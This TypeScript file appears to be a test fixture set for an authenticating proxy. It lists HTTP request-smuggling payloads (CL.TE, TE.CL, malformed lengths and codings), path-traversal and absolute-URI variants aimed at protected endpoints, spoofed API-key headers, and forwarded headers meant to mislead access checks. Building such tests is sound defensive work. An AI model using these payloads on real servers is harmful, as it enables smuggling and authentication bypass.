/** Requests that two servers may parse differently. */

const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: x\r\nX-Smuggled: 1\r\n\r\n';
const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;

export interface Attack {
  what: string;
  /** Request line and headers without the API key. */
  head: string;
  body?: string;
}

/** A POST with the headers `lines` and a smuggled request in its body. */
const post = (what: string, lines: string, body: string): Attack => ({
  what,
  head: `POST /attack HTTP/1.1\r\nHost: x\r\n${lines}`,
  body,
});
const behindLastChunk = `0\r\n\r\n${smuggled}`;
const coding = (what: string, line: string) =>
  post(what, `Content-Length: ${behindLastChunk.length}\r\n${line}\r\n`, behindLastChunk);
export const get = (what: string, head: string): Attack => ({ what, head });

/** Bodies with two possible ends: after the earlier one, the rest is a request. */
export const framings: Attack[] = [
  post('CL.TE', `Content-Length: ${behindLastChunk.length}\r\nTransfer-Encoding: chunked\r\n`, behindLastChunk),
  post('TE.CL', 'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n', `${chunk(smuggled)}0\r\n\r\n`),
  post('CL.0 with a body that is a request', `Content-Length: ${smuggled.length}\r\n`, smuggled),
  post('two lengths, the short one first', `Content-Length: 0\r\nContent-Length: ${smuggled.length}\r\n`, smuggled),
  post('two lengths, the short one last', `Content-Length: ${smuggled.length}\r\nContent-Length: 0\r\n`, smuggled),
  post('a list of lengths', `Content-Length: 0, ${smuggled.length}\r\n`, smuggled),
  post('a length with a sign', `Content-Length: +${smuggled.length}\r\n`, smuggled),
  post('a negative length', 'Content-Length: -1\r\n', smuggled),
  post('a length in hex', `Content-Length: 0x${smuggled.length.toString(16)}\r\n`, smuggled),
  post('a length that overflows', `Content-Length: 18446744073709551616\r\n`, smuggled),
  post('a length before a space', `Content-Length : ${smuggled.length}\r\n`, smuggled),
  post('a length in a folded line', `X-A: a\r\n Content-Length: ${smuggled.length}\r\n`, smuggled),
  post('a length whose value is folded', `Content-Length:\r\n ${smuggled.length}\r\n`, smuggled),
  post('a length after a bare LF', `X-A: a\nContent-Length: ${smuggled.length}\r\n`, smuggled),
  post('a length after a bare CR', `X-A: a\rContent-Length: ${smuggled.length}\r\n`, smuggled),
  post('a length after NUL', `X-A: a\0\r\nContent-Length: ${smuggled.length}\r\n`, smuggled),
  coding('a coding that is xchunked', 'Transfer-Encoding: xchunked'),
  coding('a coding with a space before the colon', 'Transfer-Encoding : chunked'),
  coding('two codings', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'),
  coding('a list of codings', 'Transfer-Encoding: chunked, identity'),
  coding('chunked twice', 'Transfer-Encoding: chunked, chunked'),
  coding('a coding after a tab', 'Transfer-Encoding:\tchunked'),
  coding('a coding after VT', 'Transfer-Encoding: \x0bchunked'),
  coding('a coding in quotes', 'Transfer-Encoding: "chunked"'),
  coding('a coding in capitals', 'TRANSFER-ENCODING: CHUNKED'),
  coding('a folded coding', 'Transfer-Encoding:\r\n chunked'),
  coding('a coding in a folded line', 'X-A: a\r\n Transfer-Encoding: chunked'),
  coding('a coding after a bare LF', 'X-A: a\nTransfer-Encoding: chunked'),
  coding('a coding behind NUL', 'X-A: \0\r\nTransfer-Encoding: chunked'),
  coding('an underscore for the hyphen', 'Transfer_Encoding: chunked'),
  coding('a control character in the name', 'Transfer\x01-Encoding: chunked'),
  post('a chunk size with an extension', 'Transfer-Encoding: chunked\r\n', `0;a="\r\n\r\n${smuggled}"\r\n\r\n`),
  post(
    'an extension that ends in a bare LF',
    'Transfer-Encoding: chunked\r\n',
    `1;a\nx\r\n${chunk(smuggled)}0\r\n\r\n`,
  ),
  post(
    'an extension of 20 KB',
    'Transfer-Encoding: chunked\r\n',
    `1;${'a'.repeat(20_000)}\r\nx\r\n0\r\n\r\n${smuggled}`,
  ),
  post('a chunk size that overflows', 'Transfer-Encoding: chunked\r\n', `10000000000000000\r\n${smuggled}`),
  post('a chunk size with a sign', 'Transfer-Encoding: chunked\r\n', `+0\r\n\r\n${smuggled}`),
  post('a chunk size in 0x', 'Transfer-Encoding: chunked\r\n', `0x0\r\n\r\n${smuggled}`),
  post('a chunk size before a space', 'Transfer-Encoding: chunked\r\n', `0 \r\n\r\n${smuggled}`),
  post('chunks that end in a bare LF', 'Transfer-Encoding: chunked\r\n', `0\n\n${smuggled}`),
  post(
    'a trailer that is a length',
    'Transfer-Encoding: chunked\r\n',
    `0\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
  ),
  {
    what: 'chunks of HTTP/1.0',
    head: 'POST /attack HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n',
    body: behindLastChunk,
  },
  {
    what: 'a GET with a body',
    head: `GET /attack HTTP/1.1\r\nHost: x\r\nContent-Length: ${smuggled.length}\r\n`,
    body: smuggled,
  },
  {
    what: 'a body that waits for 100 Continue',
    head: `POST /attack HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: ${smuggled.length}\r\n`,
    body: smuggled,
  },
];

/** Requests with a path, host or header that servers interpret differently. */
export const targets: Attack[] = [
  get('an absolute URI', 'GET http://127.0.0.1/healthz HTTP/1.1\r\nHost: x\r\n'),
  get('an absolute URI of another host', 'GET http://other.example/attack HTTP/1.1\r\nHost: x\r\n'),
  get('two hosts', 'GET /attack HTTP/1.1\r\nHost: x\r\nHost: y\r\n'),
  get('no host', 'GET /attack HTTP/1.1\r\n'),
  get('CONNECT', 'CONNECT 127.0.0.1:80 HTTP/1.1\r\nHost: x\r\n'),
  get('TRACE', 'TRACE /attack HTTP/1.1\r\nHost: x\r\n'),
  get('an upgrade', 'GET /attack HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n'),
  get(
    'an upgrade to h2c',
    'GET /attack HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n',
  ),
  get('the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n'),
  get('HTTP/0.9', 'GET /attack'),
  get('a line break in the path', 'GET /attack\r\nX-A: b HTTP/1.1\r\nHost: x\r\n'),
  get('Connection that names the key', 'GET /attack HTTP/1.1\r\nHost: x\r\nConnection: X-API-Key\r\n'),
  ...[
    '//',
    '/./',
    '/../',
    '/..;/',
    '/%2e%2e/',
    '/%2e%2e%2f',
    '/..%2f',
    '/%00',
    '/%2f%2f',
    '/;/',
    '/a%0d%0aX-A:%20b',
    '/.cloudyard-authorize',
    '//.cloudyard-authorize',
    '/%2ecloudyard-authorize',
    '/x/../.cloudyard-authorize',
    '/.cloudyard-authorize/',
    '/cloudyard/v1/authorize/1/1/default/web',
    '*',
    '/\\..\\',
    '/?a=/../',
    '/#',
  ].map((path) => get(`the path ${path}`, `GET ${path} HTTP/1.1\r\nHost: x\r\n`)),
];

export const spoofed = [
  'X_API_Key: KEY',
  'X-API_Key: KEY',
  'HTTP_X_API_KEY: KEY',
  'X-API-Key : KEY',
  ' X-API-Key: KEY',
  'X-A: a\r\n X-API-Key: KEY',
  'X-A: a\rX-API-Key: KEY',
  'Api-Key: KEY',
  'Authorization: apikey KEY',
  'Cookie: X-API-Key=KEY',
];
export const misleading =
  'X-Original-URI: /healthz\r\nX-Original-URL: /healthz\r\nX-Rewrite-URL: /healthz\r\nX-Original-Method: GET\r\n' +
  'X-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Host: cloudyard\r\nX-Forwarded-Uri: /healthz\r\nX-Forwarded-Prefix: /healthz\r\n' +
  'X-Forwarded-Proto: https\r\nForwarded: for=127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\nX-Cloudyard-Reason: none\r\n' +
  'X-Container-Name: web\r\nX-Container-Namespace: default\r\nX-Container-Project: 1\r\nX-Container-Region: 1\r\n' +
  'X-Accel-Redirect: /attack\r\nX-HTTP-Method-Override: GET\r\n';
